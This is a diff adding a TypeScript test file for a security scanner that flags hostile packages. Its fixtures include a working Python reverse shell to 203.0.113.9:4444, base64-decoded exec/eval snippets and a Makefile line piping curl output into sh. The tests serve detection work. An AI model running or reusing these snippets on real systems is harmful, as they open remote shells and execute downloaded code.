@@ -1,0 +1,63 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { memoryTree, type Report, scan } from '../src/index.ts';
+
+const REVERSE_SHELL = `
+import os, pty, socket
+def go():
+    s = socket.socket()
+    s.connect(("203.0.113.9", 4444))
+    os.dup2(s.fileno(), 0)
+    pty.spawn("/bin/sh")
+`;
+
+function ofCheck({ findings }: Report, checkId: string): Report['findings'] {
+  return findings.filter((finding) => finding.checkId === checkId);
+}
+
+test('what a check of one file saw makes the package hostile', async () => {
+  const report = await scan(memoryTree({ 'setup.cfg': '[metadata]\nname = x\n', 'pkg/main.py': REVERSE_SHELL }));
+
+  assert.ok(ofCheck(report, 'rce-reverse-shell').length > 0);
+  assert.deepEqual(
+    ofCheck(report, 'supply-chain-hostile-package').map(({ severity, file }) => [severity, file]),
+    [['critical', 'pkg/main.py']],
+  );
+});
+
+test('a wheel that was unpacked is a package', async () => {
+  const report = await scan(memoryTree({ 'x-1.0.dist-info/METADATA': 'Name: x\n', 'x/main.py': REVERSE_SHELL }));
+
+  assert.equal(ofCheck(report, 'supply-chain-hostile-package').length, 1);
+});
+
+test('code that no one installs is hostile line by line, and each line once', async () => {
+  const report = await scan(memoryTree({ 'main.py': REVERSE_SHELL }));
+
+  const lines = ofCheck(report, 'supply-chain-hostile-code').map(({ line }) => line);
+  const shells = ofCheck(report, 'rce-reverse-shell').map(({ line }) => line);
+  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-package'), []);
+  assert.deepEqual(lines, [...new Set(shells)]);
+});
+
+test('the second look at an act never weighs as much as the first', async () => {
+  const report = await scan(
+    memoryTree({ 'lib/a.rb': "require 'base64'\neval(Base64.decode64('cHV0cyAxMjM0NQ=='))\n" }),
+  );
+
+  const [second] = ofCheck(report, 'supply-chain-hostile-code');
+  assert.deepEqual([second?.severity, second?.confidence], ['low', 'medium']);
+});
+
+test('a line that has its verdict on the supply chain gets no other', async () => {
+  const report = await scan(memoryTree({ 'pkg/__init__.py': 'import base64\nexec(base64.b64decode(blob))\n' }));
+
+  assert.equal(ofCheck(report, 'supply-chain-python-import-hook').length, 1);
+  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-code'), []);
+});
+
+test('the recipe of a build is not code that somebody takes in', async () => {
+  const report = await scan(memoryTree({ Makefile: 'lint:\n\tcurl -sSf https://x.example.net/i.sh | sh\n' }));
+
+  assert.deepEqual(ofCheck(report, 'supply-chain-hostile-code'), []);
+});
